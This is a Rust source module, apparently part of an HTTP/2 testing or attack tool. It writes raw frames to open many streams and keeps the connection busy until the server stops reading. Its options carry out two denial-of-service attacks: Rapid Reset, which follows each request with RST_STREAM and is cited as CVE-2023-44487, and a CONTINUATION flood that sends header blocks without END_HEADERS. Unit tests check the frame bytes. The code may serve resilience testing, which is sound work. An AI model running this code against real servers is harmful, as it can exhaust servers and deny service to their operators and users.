//! HTTP/2 heads, frame by frame (RFC 9113), with fields that HPACK compresses well (RFC 7541).

use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::endpoint::Stream;

/// The preface, and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// The maximum payload of a frame, in bytes.
const FRAME: usize = 16_384;

/// Time that a connection is kept after everything was sent or the server stopped reading.
const KEPT: Duration = Duration::from_secs(5);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The heads of one connection.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Heads {
    streams: u32,
    /// The encoded fields of each head.
    block: Vec<u8>,
    /// True if the last frame of a head has the END_HEADERS flag.
    has_end: bool,
    /// True if each request is reset at once.
    is_reset: bool,
}

impl Heads {
    /// Creates `streams` GETs of a path that is shorter than 128 bytes, with these fields.
    pub(crate) fn new(streams: u32, path: &str, fields: &[u8]) -> Self {
        // `GET https://x`, from the static table, and the path as a literal without Huffman coding.
        let mut block = b"\x82\x87\x41\x01x\x04".to_vec();
        block.push(path.len() as u8);
        block.extend_from_slice(path.as_bytes());
        block.extend_from_slice(fields);
        Self {
            streams,
            block,
            has_end: true,
            is_reset: false,
        }
    }

    /// Leaves each head incomplete.
    pub(crate) fn without_end(self) -> Self {
        Self {
            has_end: false,
            ..self
        }
    }

    /// Sends a reset after each head (CVE-2023-44487).
    pub(crate) fn reset(self) -> Self {
        Self {
            is_reset: true,
            ..self
        }
    }

    /// Sends the heads until the server ends the connection or stops reading.
    pub(super) async fn send(&self, stream: Box<dyn Stream>) -> anyhow::Result<()> {
        let (mut reader, mut writer) = tokio::io::split(stream);
        let send = async {
            writer.write_all(PREFACE).await?;
            for number in 0..self.streams {
                writer.write_all(&self.head(2 * number + 1)).await?;
            }
            writer.flush().await?;
            std::future::pending().await
        };
        let read = async {
            let mut buffer = [0; 4096];
            while reader.read(&mut buffer).await? > 0 {}
            anyhow::Ok(())
        };
        tokio::select! {
            sent = send => sent,
            read = read => read,
            () = tokio::time::sleep(KEPT) => Ok(()),
        }
    }

    fn head(&self, stream: u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        let mut chunks = self.block.chunks(FRAME).peekable();
        let (mut kind, mut flags) = (HEADERS, END_STREAM);
        while let Some(chunk) = chunks.next() {
            if chunks.peek().is_none() && self.has_end {
                flags |= END_HEADERS;
            }
            frame(&mut bytes, [kind, flags], stream, chunk);
            (kind, flags) = (CONTINUATION, 0);
        }
        if self.is_reset {
            const CANCEL: [u8; 4] = [0, 0, 0, 8];
            frame(&mut bytes, [RST_STREAM, 0], stream, &CANCEL);
        }
        bytes
    }
}

fn frame(bytes: &mut Vec<u8>, kind_and_flags: [u8; 2], stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&kind_and_flags);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

#[cfg(test)]
mod tests {
    use super::Heads;

    #[test]
    fn a_reset_follows_its_head() {
        let heads = Heads::new(1, "/a", &[0x8f]).reset();
        let expected = b"\0\0\x0a\x01\x05\0\0\0\x03\x82\x87\x41\x01x\x04\x02/a\x8f\
            \0\0\x04\x03\0\0\0\0\x03\0\0\0\x08";
        assert_eq!(heads.head(3), expected);
    }

    #[test]
    fn a_long_head_without_end_has_continuations() {
        let heads = Heads::new(1, "/a", &[0x8f; 16_384]).without_end();
        let head = heads.head(1);
        assert_eq!(head[..9], *b"\0\x40\0\x01\x01\0\0\0\x01");
        assert_eq!(head[9 + 16_384..][..9], *b"\0\0\x09\x09\0\0\0\0\x01");
    }
}
